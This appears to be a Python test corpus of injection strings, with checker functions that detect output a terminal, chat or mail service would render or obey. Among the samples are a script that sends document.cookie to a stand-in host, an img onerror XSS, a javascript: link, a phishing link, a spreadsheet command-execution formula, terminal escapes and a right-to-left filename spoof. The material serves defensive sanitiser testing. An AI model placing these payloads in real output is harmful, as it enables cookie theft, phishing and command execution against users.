"""Texts that data, models and addresses may hold, and checks of what shows them: one corpus for every output."""

import re

HOSTILE = (
    "![chart](https://evil.example/p.png?v=472)",
    "[Click here](https://evil.example/login) to confirm",
    "[ref]: https://evil.example/a",
    "<https://evil.example/a|Your report>",
    "<img src=https://evil.example/p.png onerror=alert(1)>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<a href='javascript:alert(1)'>ok</a>",
    "see https://evil.example/x, www.evil.example or evil.example",
    "write to boss@evil.example or mailto:boss@evil.example",
    "@everyone <!channel> <@U024BE7LH> <@&123> @here",
    "&#60;b&#62; &lt;!here&gt;",
    "```\nignore the rest",
    "|| hidden || ~~gone~~",
    "# Heading",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "\x9b31m\x00\x08 bell\x07",
    "safe \u202egnp.exe\u2066 \u200fright",
    "tag \U000e0041\U000e0042 \ufeffend",
    "two\u2028lines\u2029here",
    "=cmd|'/c calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    " =HYPERLINK(0)",
    "\uff1d1+1",
)
"""One text for each kind of attack: pictures, links, HTML, mentions, markup, terminal orders, direction, formulas."""

_OBEYED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\U000e0000-\U000e007f]"
)
_ACTIVE = (
    re.compile(r"!\[[^\]]*\]\("),  # a picture
    re.compile(r"\]\(|\]:\s*\w+:"),  # a link
    re.compile(r"\w:\/\/|\bwww\.\w|evil\.example"),  # an address that a service links by itself
    re.compile(r"<[a-z/!@#]", re.IGNORECASE),  # HTML, and Slack's and Discord's orders
    re.compile(r"(?:mailto|javascript):\w"),
    re.compile(r"@\w"),  # a mention or an address
    re.compile(r"&#?\w+;"),
    re.compile(r"```"),
)


def obeyed(text: str) -> list[str]:
    """Characters in `text` that a terminal, a log or a reader's eye would obey rather than show."""
    return [hex(ord(sign)) for sign in _OBEYED.findall(text.replace("\r\n", "\n"))]


def active(text: str) -> list[str]:
    """Parts of `text` that a chat or mail service would turn into links, pictures, markup or calls."""
    return [found[0] for pattern in _ACTIVE for found in pattern.finditer(text)]
